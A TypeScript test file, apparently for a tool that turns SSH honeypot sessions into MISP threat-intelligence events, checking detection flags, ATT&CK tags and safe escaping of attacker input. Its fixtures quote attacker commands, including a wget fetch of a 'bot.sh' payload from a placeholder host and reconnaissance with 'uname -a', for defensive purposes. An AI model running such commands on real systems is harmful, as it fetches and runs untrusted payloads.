import assert from "node:assert/strict";
import { buildDayEvent } from "../../src/misp/day_event.ts";
import { buildEvent, type EventRules, type MispEvent } from "../../src/misp/event.ts";
import { attributesOf } from "../../src/misp/sessions/attribute_count.ts";
import {
  HASHES,
  HASSH,
  hostileSession,
  KEY,
  seenItem,
  SESSION,
  SESSION_AT,
} from "../support/session_evidence.ts";
import { sourceRecord } from "../support/source_record.ts";
import { RULES } from "./rest_sink_rig.ts";

const SOURCE = sourceRecord({ session: SESSION });

/** Every attribute that sessions brought: flags, type and value. */
function said({ Attribute, Object }: MispEvent): readonly string[] {
  const own = Attribute.filter(({ type }) => type !== "ip-src");
  const inside = Object.filter(({ name }) => name === "file" || name === "url")
    .flatMap((object) => object.Attribute);
  return [...own, ...inside].map(({ type, value, to_ids, disable_correlation }) =>
    `${to_ids ? "ids" : "-"} ${disable_correlation ? "-" : "correlates"} ${type} ${value}`
  );
}

const objectOf = (event: MispEvent, value: string) =>
  event.Object.find(({ Attribute }) => Attribute.some((one) => one.value === value));

const many = (kind: "payload" | "hassh" | "key" | "url", count: number) =>
  Array.from({ length: count }, (_, at) =>
    seenItem({
      kind,
      value: kind === "url" ? `http://203.0.113.5/${at}` : at.toString(16).padStart(64, "0"),
      firstSeen: SESSION_AT + at,
      lastSeen: SESSION_AT + at,
    }));

Deno.test("buildEvent() gives files, addresses and keys to detection, clients and text not", () => {
  assert.deepEqual(said(buildEvent(SOURCE, RULES)), [
    `- - hassh-md5 ${HASSH}`,
    `ids correlates ssh-fingerprint ${KEY}`,
    "- - text http://192.168.1.7/inside",
    `ids correlates sha256 ${HASHES[0]}`,
    "- - filename bot.sh",
    "- - filename x",
    "- - size-in-bytes 4096",
    `ids correlates sha256 ${HASHES[1]}`,
    `ids correlates sha256 ${HASHES[2]}`,
    "- - filename key",
    "ids correlates url http://203.0.113.10/gone",
    "ids correlates url http://203.0.113.9/bot.sh",
  ]);
});

Deno.test("buildEvent() says where a file came from, and how often", () => {
  const event = buildEvent(SOURCE, RULES);
  const file = objectOf(event, HASHES[0]!);
  const url = objectOf(event, "http://203.0.113.9/bot.sh");
  assert.equal(file?.comment, "brought 1000 times (download)");
  assert.deepEqual(
    file?.ObjectReference?.map(({ object_uuid, referenced_uuid, relationship_type }) => [
      object_uuid === file.uuid,
      referenced_uuid === url?.uuid,
      relationship_type,
    ]),
    [[true, true, "downloaded-from"]],
  );
  const inside = objectOf(event, HASHES[1]!);
  const text = event.Attribute.find(({ type }) => type === "text");
  assert.deepEqual(
    inside?.ObjectReference?.map(({ referenced_uuid }) => referenced_uuid),
    [text?.uuid],
  );
  assert.equal(objectOf(event, HASHES[2]!)?.ObjectReference, undefined);
  assert.equal(url?.comment, "a file was downloaded from here");
  assert.equal(
    objectOf(event, "http://203.0.113.10/gone")?.comment,
    "asked 2 times without getting a file",
  );
  assert.equal(file?.first_seen, "2026-08-23T06:10:00.000000+00:00");
});

Deno.test("buildEvent() makes one object of an address that gave a file at times only", () => {
  const url = "http://203.0.113.9/bot.sh";
  const items = [...SESSION.items, seenItem({ kind: "url", value: url, count: 7 })];
  const event = buildEvent({ ...SOURCE, session: { ...SESSION, items } }, RULES);
  assert.equal(event.Object.filter(({ name }) => name === "url").length, 2);
  assert.equal(
    objectOf(event, url)?.comment,
    "a file was downloaded from here; asked 7 times without getting a file",
  );
});

Deno.test("buildEvent() keeps an address with a masked secret from detection and correlation", () => {
  const url = "http://203.0.113.9/y?token=***";
  const items = [seenItem({ kind: "url", value: url })];
  const event = buildEvent({ ...SOURCE, session: { ...SESSION, items } }, RULES);
  assert.deepEqual(said(event), [`- - url ${url}`]);
  assert.match(objectOf(event, url)!.comment, /a secret in it is masked$/);
});

Deno.test("buildEvent() correlates clients with misp.correlate_hassh", () => {
  const event = buildEvent(SOURCE, { ...RULES, correlatesHassh: true });
  assert.ok(said(event).includes(`- correlates hassh-md5 ${HASSH}`));
});

Deno.test("buildEvent() never makes attributes of commands, versions and tunnels", () => {
  const text = JSON.stringify({ ...buildEvent(SOURCE, RULES), EventReport: [] });
  for (const one of ["uname", "wget", "SSH-2.0-Go", "203.0.113.80"]) {
    assert.equal(text.includes(one), false, one);
  }
});

Deno.test("buildEvent() gives nothing of a withdrawn source to detection", () => {
  const event = buildEvent({ ...SOURCE, retractedAt: SESSION_AT }, RULES);
  assert.deepEqual(said(event).filter((one) => one.startsWith("ids")), []);
});

Deno.test("buildEvent() keeps what is on a warning list from detection, and names the list", () => {
  const event = buildEvent(SOURCE, RULES, {
    hashLists: (hash) => hash === HASHES[0] ? ["empty-hashes"] : [],
    urlLists: (url) => url === "http://203.0.113.10/gone" ? ["top1000", "google"] : [],
  });
  const [hash] = objectOf(event, HASHES[0]!)!.Attribute;
  assert.deepEqual([hash?.to_ids, hash?.comment], [false, "on warning lists: empty-hashes"]);
  const [url] = objectOf(event, "http://203.0.113.10/gone")!.Attribute;
  assert.deepEqual([url?.to_ids, url?.comment], [false, "on warning lists: top1000, google"]);
  assert.equal(objectOf(event, HASHES[1]!)!.Attribute[0]?.to_ids, true);
});

Deno.test("buildEvent() names the techniques that sessions show, and no other", () => {
  const techniques = (kinds: readonly string[], changes = {}) => {
    const items = SESSION.items.filter(({ kind }) => kinds.includes(kind));
    const source = { ...SOURCE, session: { ...SESSION, items }, ...changes };
    return buildEvent(source, RULES).Tag.map(({ name }) => / - (T\S+)"$/.exec(name)?.[1])
      .filter((id) => id !== undefined);
  };
  assert.deepEqual(techniques([]), ["T1110"]);
  assert.deepEqual(techniques(["command"]), ["T1110", "T1059.004"]);
  assert.deepEqual(techniques(["payload"]), ["T1110", "T1105"]);
  assert.deepEqual(techniques(["url"]), ["T1110", "T1105"]);
  assert.deepEqual(techniques(["key"]), ["T1110", "T1098.004"]);
  assert.deepEqual(techniques(["tunnel"]), ["T1110", "T1090"]);
  assert.deepEqual(techniques(["command"], { attempts: 0 }), ["T1059.004"]);
  assert.deepEqual(techniques([], { attempts: 0 }), []);
  assert.deepEqual(techniques([], { attempts: 1 }), ["T1110"]);
  const written = SESSION.items.filter(({ ways = [] }) => ways.includes("written"));
  const source = { ...SOURCE, session: { ...SESSION, items: written } };
  assert.equal(buildEvent(source, RULES).Tag.some(({ name }) => name.includes("T1105")), false);
});

Deno.test("buildEvent() says in the title that the decoy let a source in, never that it is compromised", () => {
  const infoOf = (changes: Partial<typeof SOURCE>) => buildEvent({ ...SOURCE, ...changes }, RULES);
  assert.equal(
    infoOf({}).info,
    "SSH Brute Force Attack from 82.202.219.155 (3 attempts; logged in to the decoy)",
  );
  assert.equal(infoOf({}).threat_level_id, "3");
  assert.equal(
    infoOf({ attempts: 0 }).info,
    "SSH Session from 82.202.219.155 (3 sessions; logged in to the decoy)",
  );
  const outside = { ...SESSION, totals: { sessions: 1, loggedIn: 0, longestMs: 0 } };
  assert.equal(
    infoOf({ attempts: 0, session: outside, services: ["telnet"] }).info,
    "Telnet Session from 82.202.219.155 (1 session)",
  );
  assert.equal(
    infoOf({ compromisedAt: SESSION_AT }).info,
    "SUCCESSFUL LOGIN after SSH Brute Force Attack from 82.202.219.155 " +
      "(3 attempts; logged in to the decoy)",
  );
});

Deno.test("buildEvent() has a bounded number of parts, the earliest ones, whatever came", () => {
  const items = (["payload", "hassh", "key", "url"] as const).flatMap((kind) => many(kind, 1000));
  const session = { ...SESSION, items: items.toReversed() };
  const event = buildEvent({ ...SOURCE, session }, RULES);
  const counts = Object.entries(Object.groupBy(said(event), (one) => one.split(" ")[2]!));
  assert.deepEqual(counts.map(([type, rows]) => [type, rows?.length]), [
    ["hassh-md5", 20],
    ["ssh-fingerprint", 50],
    ["sha256", 50],
    ["url", 100],
  ]);
  assert.ok(objectOf(event, "0".repeat(64)));
});

Deno.test("attributesOf() counts what buildDayEvent() makes of sessions, which is bounded", () => {
  const items = (["payload", "hassh", "key", "url"] as const).flatMap((kind) => many(kind, 1000));
  for (const session of [SESSION, hostileSession(), { ...SESSION, items }]) {
    const event = buildDayEvent({ ...SOURCE, part: 1, session }, RULES, {});
    const there = [event, ...event.Object].reduce((sum, one) => sum + one.Attribute.length, 0);
    assert.equal(attributesOf(undefined, session), there);
    assert.ok(there <= 100, `${there}`);
  }
  assert.equal(attributesOf(undefined), 4);
});

Deno.test("buildDayEvent() gives two sources one attribute of a client and a key, and objects of their own", () => {
  const events = ["198.51.100.1", "198.51.100.2"].map((sourceIp) =>
    buildDayEvent({ ...SOURCE, part: 1, sourceIp }, RULES, {})
  );
  const [one, other] = events.map(({ Attribute }) =>
    Attribute.filter(({ type }) => type !== "ip-src")
  );
  assert.deepEqual(one, other);
  const uuids = events.flatMap(({ Object }) => Object.map(({ uuid }) => uuid));
  assert.equal(new Set(uuids).size, uuids.length);
});

const reportOf = (session = SESSION, rules: Partial<EventRules> = {}, changes = {}) =>
  buildEvent({ ...SOURCE, session, ...changes }, { ...RULES, ...rules }).EventReport[0]!;

Deno.test("writeStory() shows commands, files, keys and tunnels as code", () => {
  const { content } = reportOf();
  for (
    const line of [
      "**Logged in to the decoy in 2 of 3 sessions.** A decoy accepts logins on purpose: no account " +
      "of a real server is affected.",
      "3 sessions, the longest 12.3 s. They show T1059.004, T1105, T1098.004, T1090 of MITRE ATT&CK.",
      `| HASSH \`${HASSH}\` | 3 |`,
      "| `SSH-2.0-Go` | 3 |",
      "| `uname -a` | 4 |",
      "| `cd /tmp; wget http://203.0.113.9/bot.sh` | 2 |",
      `| ${
        HASHES[0]
      } | \`bot.sh\`, \`x\` | 4096 | download | \`http://203.0.113.9/bot.sh\` | 1000 |`,
      "| `http://203.0.113.10/gone` | 2 |",
      `| \`${KEY}\` | ssh-rsa | \`mdrfckr\` | 1 |`,
      "| `203.0.113.80:25` | 9 |",
    ]
  ) assert.ok(content.includes(line), `${line}\n\n${content}`);
  assert.equal(content.includes("compromised"), false);
});

Deno.test("writeStory() names sessions and no attempts where there was no attempt", () => {
  const { name, content } = reportOf(SESSION, {}, { attempts: 0 });
  assert.equal(name, "SSH session from 82.202.219.155");
  assert.match(content, /^# SSH session from 82\.202\.219\.155\n\n\*\*3 sessions\*\* between /);
  assert.equal(/attempt/.test(content.replace(/MITRE ATT&CK/g, "")), false, content);
});

Deno.test("writeStory() keeps to privacy.commands", () => {
  const items = Array.from(
    { length: 30 },
    (_, at) => seenItem({ kind: "command", value: `echo ${100 + at}`, count: 100 - at }),
  );
  const session = { ...SESSION, items, further: { command: 5 } };
  const shown = (commands: "top" | "all" | "count") =>
    reportOf(session, { commands }).content.match(/`echo \d+`/g)?.length ?? 0;
  assert.deepEqual([shown("top"), shown("all"), shown("count")], [10, 30, 0]);
  const times = items.reduce((sum, { count }) => sum + count, 5);
  assert.ok(
    reportOf(session, { commands: "count" }).content.includes(`${times} commands were typed.`),
  );
  assert.ok(reportOf(session, { commands: "all" }).content.includes("5 more times, not shown."));
});

Deno.test("writeStory() lets nothing of an attacker out of its code span, and stays below 64 KiB", () => {
  const { content } = reportOf(hostileSession(), { commands: "all" });
  assert.equal(/<script|@\[attribute\]|\u{1f600}|\u202e|\0/u.test(content), false);
  for (const line of content.split("\n").filter((one) => one.startsWith("| `"))) {
    assert.equal(line.replaceAll(/`[^`]*`/g, "").replaceAll(/[^|]/g, "").length >= 3, true, line);
  }
  const long = Array.from(
    { length: 1000 },
    (_, at) => seenItem({ kind: "command", value: `${at}${"\u202e".repeat(500)}` }),
  );
  const bytes = new TextEncoder().encode(
    reportOf({ ...SESSION, items: long }, { commands: "all" }).content,
  ).length;
  assert.ok(bytes < 64 * 1024, `${bytes}`);
});
